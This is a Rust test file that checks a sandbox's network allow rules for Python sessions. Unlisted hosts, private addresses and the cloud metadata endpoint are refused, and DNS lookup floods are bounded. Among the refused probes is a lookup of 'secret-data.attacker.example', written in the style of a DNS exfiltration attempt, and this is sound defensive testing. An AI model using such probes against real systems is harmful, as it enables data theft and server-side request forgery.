//! The network: what the rules allow, and nothing else.

use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use component_sandbox::{Error, Network, Session};
use std::io::Write;

use crate::{python, raised};

/// A server that says hello to whoever connects, and counts them.
fn server(address: &str) -> (u16, Arc<AtomicUsize>) {
    let listener = TcpListener::bind(address).expect("a listener");
    let port = listener.local_addr().expect("its address").port();
    let count = Arc::new(AtomicUsize::new(0));
    std::thread::spawn({
        let count = Arc::clone(&count);
        move || {
            for mut stream in listener.incoming().flatten() {
                count.fetch_add(1, Ordering::SeqCst);
                // The other side may be gone by then.
                let _ = stream.write_all(b"hello");
            }
        }
    });
    (port, count)
}

async fn session(network: Network) -> Session {
    let mut session = python().session().network(network).start().await.expect("a session");
    let greet = "import socket\ndef greet(host, port):\n  with socket.create_connection((host, port), 2) as s: return s.recv(5).decode()";
    session.exec(greet).await.expect("a function");
    session
}

#[tokio::test]
async fn allowed_by_name_and_by_address() {
    let (port, count) = server("127.0.0.1:0");
    for host in ["localhost", "LOCALHOST", "127.0.0.1"] {
        let mut session =
            session(Network::new().allow("localhost", port).allow("127.0.0.1", port).allow_private()).await;
        assert_eq!(session.call::<String>("greet", (host, port)).await.expect("a greeting"), "hello", "{host}");
    }
    assert_eq!(count.load(Ordering::SeqCst), 3);
}

#[tokio::test]
async fn what_no_rule_allows_is_refused() {
    let (port, count) = server("127.0.0.1:0");
    let (other, other_count) = server("127.0.0.1:0");
    let mut session =
        session(Network::new().allow("localhost", port).allow("*.example.com", 443).allow_private()).await;
    assert_eq!(session.call::<String>("greet", ("localhost", port)).await.expect("a greeting"), "hello");
    for expression in [
        format!("greet('localhost', {other})"),
        format!("greet('127.0.0.1', {other})"),
        format!("greet('127.0.0.2', {port})"),
        "socket.getaddrinfo('example.com', 443)".to_owned(),
        "socket.getaddrinfo('secret-data.attacker.example', 80)".to_owned(),
        "socket.socket().bind(('127.0.0.1', 0))".to_owned(),
        "socket.create_server(('', 0))".to_owned(),
        format!("socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {port}))"),
    ] {
        let error = raised(session.eval_json(&expression).await);
        assert!(error.starts_with("PermissionError") || error.starts_with("gaierror"), "{expression}: {error}");
    }
    assert_eq!((count.load(Ordering::SeqCst), other_count.load(Ordering::SeqCst)), (1, 0));
}

#[tokio::test]
async fn an_address_is_permitted_only_after_its_name_was_looked_up() {
    let (port, count) = server("127.0.0.1:0");
    let mut session = session(Network::new().allow("localhost", port).allow_private()).await;
    let by_address = format!("greet('127.0.0.1', {port})");
    assert!(raised(session.eval_json(&by_address).await).starts_with("PermissionError"));
    session.exec(&format!("socket.getaddrinfo('localhost', {port})")).await.expect("an allowed name");
    assert_eq!(session.eval::<String>(&by_address).await.expect("a greeting"), "hello");
    assert_eq!(count.load(Ordering::SeqCst), 1);
}

#[tokio::test]
async fn private_addresses_are_refused_whatever_leads_there() {
    let (port, count) = server("127.0.0.1:0");
    let mut session =
        session(Network::new().allow("localhost", port).allow("127.0.0.1", port).allow("169.254.169.254", 80)).await;
    for (host, port) in [("localhost", port), ("127.0.0.1", port), ("169.254.169.254", 80)] {
        let error = raised(session.call::<String>("greet", (host, port)).await);
        assert!(error.starts_with("PermissionError") || error.starts_with("gaierror"), "{host}: {error}");
    }
    assert_eq!(count.load(Ordering::SeqCst), 0);
}

#[tokio::test]
async fn a_flood_of_lookups_is_bounded() {
    let network = Network::new().allow("*.invalid", 80);
    let minute = std::time::Duration::from_mins(1);
    let mut session = python().session().timeout(minute).network(network).start().await.expect("a session");
    let flood =
        "import socket\nfor i in range(40):\n  try: socket.getaddrinfo(f'n{i}.invalid', 80)\n  except OSError: pass";
    session.exec(flood).await.expect("each is answered");
}

#[tokio::test]
async fn a_host_that_is_none_is_refused() {
    let start = python().session().network(Network::new().allow("http://example.com", 80)).start().await;
    match start.map(|_| ()) {
        Err(Error::Config(sentence)) => assert!(sentence.contains("`http://example.com`"), "{sentence}"),
        other => panic!("{other:?}"),
    }
}
